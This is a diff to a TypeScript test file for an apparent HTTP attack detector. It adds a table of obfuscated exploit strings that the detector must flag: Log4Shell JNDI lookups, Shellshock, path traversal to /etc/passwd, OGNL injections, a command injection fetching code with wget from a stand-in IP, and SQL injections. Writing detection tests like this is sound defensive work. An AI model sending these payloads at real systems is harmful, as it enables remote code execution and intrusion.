@@ -1,9 +1,10 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: Log4j's look-ups
 import assert from 'node:assert/strict'
 import { test } from 'node:test'
 import { numbers } from '#codec/testing.ts'
 import { writtenRules } from '../../../docs/generate/payload-rules.ts'
 import { identify } from '../identify.ts'
-import { httpTexts, sightings, textsOf } from '../sightings.ts'
+import { httpTexts, requestText, sightings, textsOf } from '../sightings.ts'
 import { clientSamples } from '../testing-samples.ts'
 import { automatonOf } from './automaton.ts'
 import { compile, type Rule } from './recognise.ts'
@@ -47,6 +48,31 @@ test('an ordinary request, and the first words of honest clients, are no attack'
   const honest = new Set('tls http2 vnc x11 mysql postgresql mqtt amqp kafka git dns xmpp opcua ident'.split(' '))
   for (const { protocol, bytes } of clientSamples)
     if (honest.has(protocol) && !bytes.includes('version')) assert.deepEqual(seenIn(bytes), [], protocol)
+})
+
+test('sees through what attackers write to be overlooked', () => {
+  const table: [id: string, where: 'url' | 'headers' | 'body', text: string][] = [
+    ['CVE-2021-44228', 'headers', 'User-Agent: ${${lower:j}${::-n}${env:X:-d}i:rmi://192.0.2.1/a}'],
+    ['CVE-2014-6271', 'headers', 'User-Agent: () { :; }; /bin/bash -c "id"'],
+    ['CVE-2021-41773', 'url', '/icons/%%32%65%%32%65/%%32%65%%32%65/etc/passwd'],
+    ['CVE-2022-26134', 'url', '/%24%7B%28%23a%3D%40org.apache%29%7D/'],
+    ['CVE-2017-5638', 'headers', "Content-Type: %{(#nike='multipart/form-data')}"],
+    ['CVE-2024-3400', 'headers', 'Cookie: SESSID=/../../../opt/panlogs/x'],
+    ['COMMAND-INJECTION', 'body', 'dest_host=``;wget http://192.0.2.1/x'],
+    ['SQL-INJECTION', 'url', "/?id=1' or '1'='1"],
+    ['SQL-INJECTION', 'url', '/?id=1+union+/**/+all+select+1'],
+  ]
+  for (const [id, where, text] of table) {
+    const found = sightings(
+      httpTexts(
+        requestText(where === 'url' ? text : '', where === 'headers' ? text : '', where === 'body' ? text : ''),
+      ),
+    )
+    assert.ok(
+      found.some(sighting => sighting.id === id),
+      `${text}: ${JSON.stringify(found)}`,
+    )
+  }
 })
 
 const rule = (id: string, match: Rule['match'], rest: Partial<Rule> = {}): Rule => ({
@@ -147,5 +173,5 @@ test('hostile repetition costs no more than it is long', () => {
     '/dev/tcp/',
     'one two ',
   ])
-    sightings(httpTexts(piece.repeat(10_000), piece.repeat(10_000), piece.repeat(10_000)))
+    sightings(httpTexts(requestText(piece.repeat(10_000), piece.repeat(10_000), piece.repeat(10_000))))
 })
